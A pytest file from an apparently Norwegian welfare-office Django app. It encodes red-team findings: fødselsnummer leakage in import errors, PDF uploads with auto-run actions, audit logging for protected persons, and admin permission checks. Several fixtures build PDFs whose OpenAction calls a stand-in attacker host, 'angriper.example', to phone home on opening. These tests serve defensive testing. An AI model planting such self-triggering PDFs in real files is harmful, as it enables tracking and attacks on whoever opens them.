"""What the red-team pass of issue 11 (docs/security.md) found getting through, each as the
attacker or careless user met it: every test here failed on the code before its fix."""
import datetime
import io

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from alnaaktiv.actor import Actor
from alnaaktiv.models import AuditEntry, SecurityEvent
from cases.imports import ImportRefused, import_participants, import_registers
from conditions import services as conditions_services
from conditions.models import Dokumentasjon
from tests import conditions_data
from tests.extracts import arena_csv, arena_row, fnr_born, oskar_csv, oskar_row

AS_OF = datetime.date(2026, 1, 1)
PARTICIPANT_HEADER = ("fnr;navn;rolle;malgruppe;landbakgrunn;arbeidssokerstatus;henvist;mott;ikke_mott;"
                      "kartlegging_startet;avklart;rute;avsluttet;utfall")


# --- a fødselsnummer in the wrong column is never repeated in a message ----------------------------

OSKAR_COLUMNS_THAT_ECHO = ["rolle", "inntektstype", "antall_barn", "landbakgrunn", "stonad_maneder_siste_12", "kontor",
                           "adressebeskyttelse", "skjermet"]


@pytest.mark.parametrize("column", OSKAR_COLUMNS_THAT_ECHO)
def test_an_oskar_line_with_a_fodselsnummer_in_another_column_is_refused_without_repeating_it(alna, column):
    stray = fnr_born()
    with pytest.raises(ImportRefused) as refused:
        import_registers(office=alna, as_of=AS_OF, oskar=oskar_csv([oskar_row("S1", fnr_born(), **{column: stray})]),
                         actor=Actor.operator())
    assert refused.value.errors[0].startswith("linje 2: ")
    assert stray not in str(refused.value)
    assert "kan være et fødselsnummer, vises ikke" in refused.value.errors[0]


@pytest.mark.parametrize("column", ["arbeidssokerstatus", "registrert_fra", "registrert_til", "innsatsgruppe"])
def test_an_arena_line_with_a_fodselsnummer_in_another_column_is_refused_without_repeating_it(alna, column):
    stray = fnr_born()
    with pytest.raises(ImportRefused) as refused:
        import_registers(office=alna, as_of=AS_OF, arena=arena_csv([arena_row(fnr_born(), **{column: stray})]),
                         actor=Actor.operator())
    assert stray not in str(refused.value)


@pytest.mark.parametrize("column", ["rolle", "malgruppe", "landbakgrunn", "arbeidssokerstatus", "henvist", "mott",
                                    "avklart", "rute", "avsluttet", "utfall"])
def test_a_tracking_list_line_with_a_fodselsnummer_in_another_column_is_refused_without_repeating_it(alna, column):
    stray = "198979 15831" if column == "mott" else fnr_born()  # also written with a space
    values = dict(zip(PARTICIPANT_HEADER.split(";"), [fnr_born(), "Kari Forskjøvet", "hovedperson", "ovrige", "norge",
                                                      "helt_ledig", "2026-01-05", "", "", "", "", "", "", ""],
                      strict=True))
    values[column] = stray
    data = (PARTICIPANT_HEADER + "\n" + ";".join(values.values()) + "\n").encode()
    with pytest.raises(ImportRefused) as refused:
        import_participants(data, office=alna, actor=Actor.operator())
    assert refused.value.errors[0].startswith("linje 2: ")
    assert stray not in str(refused.value)
    assert stray.replace(" ", "") not in str(refused.value)


def test_ordinary_bad_values_are_still_shown_so_the_user_can_correct_them(alna):
    with pytest.raises(ImportRefused) as refused:
        import_registers(office=alna, as_of=AS_OF, oskar=oskar_csv([oskar_row("S1", fnr_born(), antall_barn="31")]),
                         actor=Actor.operator())
    assert refused.value.errors == ["linje 2: antall_barn må være mellom 0 og 30, ikke 31"]


# --- a PDF that does something the moment it is opened ---------------------------------------------

def _pdf_opening_with(action_type: str | None, **fields) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if action_type:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(action_type), **fields)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.fixture
def open_vilkar(alna, users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return conditions_data.vedtak(conditions_data.sak(alna), users["vedtak"]).vilkar.get()


def _upload(vilkar, user, content: bytes):
    return conditions_services.document_register(
        vilkar=vilkar, actor=Actor.for_user(user), type="husleie", mottatt=conditions_data.TODAY,
        fil=SimpleUploadedFile("kvittering.pdf", content))


@pytest.mark.parametrize("action", [
    {"action_type": "/URI", "URI": pikepdf.String("https://angriper.example/?apnet")},  # phones home on opening
    {"action_type": "/Named", "N": pikepdf.Name.Print},
    {"action_type": "/GoTo", "D": pikepdf.Array([0, pikepdf.Name.Fit]),
     "Next": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://angriper.example/"))},
], ids=["uri", "named-print", "goto-then-uri"])
def test_a_pdf_that_runs_an_action_when_opened_is_refused(open_vilkar, users, action):
    with pytest.raises(ValidationError) as refused:
        _upload(open_vilkar, users["vedtak"], _pdf_opening_with(**action))
    assert "PDF-filen inneholder skript, handlinger eller vedlegg" in " ".join(refused.value.messages)
    assert not Dokumentasjon.objects.exists()


def test_a_pdf_that_only_opens_at_a_page_is_accepted(open_vilkar, users):
    _upload(open_vilkar, users["vedtak"], _pdf_opening_with("/GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit])))
    _upload(open_vilkar, users["vedtak"], _pdf_opening_with(None))
    assert Dokumentasjon.objects.count() == 2


# --- the hand-over CSV of a household whose ektefelle is protected ---------------------------------

def test_the_hand_over_csv_logs_a_protected_ektefelle_as_an_export_marked_for_review(client, users, alna):


    case = conditions_data.sak(alna, spouse_age=35)
    case.ektefelle.adressebeskyttelse = "strengt_fortrolig"
    case.ektefelle.save()
    made = conditions_data.vedtak(case, users["vedtak"])
    conditions_data.fulfil(made, users["vedtak"])
    conditions_services.lifting_approve(
        oppheving=conditions_services.lifting_prepare(vedtak=made, actor=Actor.for_user(users["vedtak"])),
        actor=Actor.for_user(users["leder"]))
    cleared = users["vedtak"]
    cleared.may_see_strengt_fortrolig = True
    cleared.save()
    client.force_login(cleared)
    body = conditions_data.export_csv(client)
    assert case.saksnummer in body
    exports = AuditEntry.objects.filter(action="export", object_type="conditions.overforing")
    spouse_entry = exports.get(person_fnr=case.ektefelle.fnr)
    assert (spouse_entry.username, spouse_entry.role, spouse_entry.needs_review) == ("vedtak", "vedtak", True)
    assert exports.get(person_fnr=case.hovedperson.fnr).needs_review is False


# --- the admin site: innsyn, the permissions, the person list --------------------------------------

def test_innsyn_for_a_protected_person_needs_an_admin_with_the_permission(client, users, make_person):
    person = make_person(navn="Kari Kode Seks", adressebeskyttelse="strengt_fortrolig")
    AuditEntry.objects.create(username="veileder", role="veileder", office="0326", action="read",
                              object_type="cases.deltaker", object_id="7", person_fnr=person.fnr, path="/deltakere/7/")
    client.force_login(users["admin"])
    response = client.post("/admin/innsyn/", {"fnr": person.fnr})
    assert response.status_code == 403 and response["Content-Type"].startswith("text/html")
    body = response.content.decode()
    assert "Kari Kode Seks" not in body and "NAV Alna" not in body
    assert "må lages av en administrator med tilgang til beskyttede personer" in body
    assert not AuditEntry.objects.filter(action="export").exists()
    event = SecurityEvent.objects.get(reason__startswith="innsyn for beskyttet person")
    assert (event.username, event.role, event.status) == ("admin", "admin", 403)
    assert person.fnr not in event.reason

    users["admin"].may_see_strengt_fortrolig = True
    users["admin"].save()
    response = client.post("/admin/innsyn/", {"fnr": person.fnr})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"


def _user_change_form(client, user) -> dict:
    page = client.get(f"/admin/alnaaktiv/user/{user.pk}/change/")
    form = page.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value not in (None, False)}
    data.update({"groups": [], "user_permissions": [], "last_login_0": "", "last_login_1": "",
                 "date_joined_0": "01.01.2026", "date_joined_1": "08:00:00", "is_active": "on", "is_staff": "on",
                 "memberships-TOTAL_FORMS": "0", "memberships-INITIAL_FORMS": "0", "_save": "Lagre"})
    formset = page.context["inline_admin_formsets"][0].formset
    data.update({f"{formset.prefix}-TOTAL_FORMS": str(len(formset.forms) - 1),
                 f"{formset.prefix}-INITIAL_FORMS": str(formset.initial_form_count())})
    for index, inline in enumerate(formset.forms[:formset.initial_form_count()]):
        data.update({f"{formset.prefix}-{index}-{name}": getattr(inline.instance, name + "_id", None) or inline.instance.pk
                     for name in ("id", "user", "office")})
        data[f"{formset.prefix}-{index}-role"] = inline.instance.role
    return data


def test_an_admin_granting_themself_kode_6_access_is_written_to_the_security_log(client, users):
    admin_user = users["admin"]
    client.force_login(admin_user)
    data = _user_change_form(client, admin_user)
    data["may_see_strengt_fortrolig"] = "on"
    response = client.post(f"/admin/alnaaktiv/user/{admin_user.pk}/change/", data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    admin_user.refresh_from_db()
    assert admin_user.may_see_strengt_fortrolig is True
    event = SecurityEvent.objects.get(reason__startswith="tilgang til beskyttede personer")
    assert (event.username, event.role) == ("admin", "admin")
    assert event.reason == (f"tilgang til beskyttede personer for bruker {admin_user.pk} (admin): "
                            "strengt fortrolig (kode 6) gitt")


def test_the_person_admin_takes_no_fodselsnummer_from_the_query_string(client, users, make_person):
    person = make_person(navn="Synlig Person")
    client.force_login(users["admin"])
    for lookup in ("fnr", "fnr__startswith", "fnr__exact"):
        response = client.get(f"/admin/cases/person/?{lookup}={person.fnr}")
        assert response.status_code == 400
    assert client.get("/admin/cases/person/?adressebeskyttelse__exact=ugradert").status_code == 200
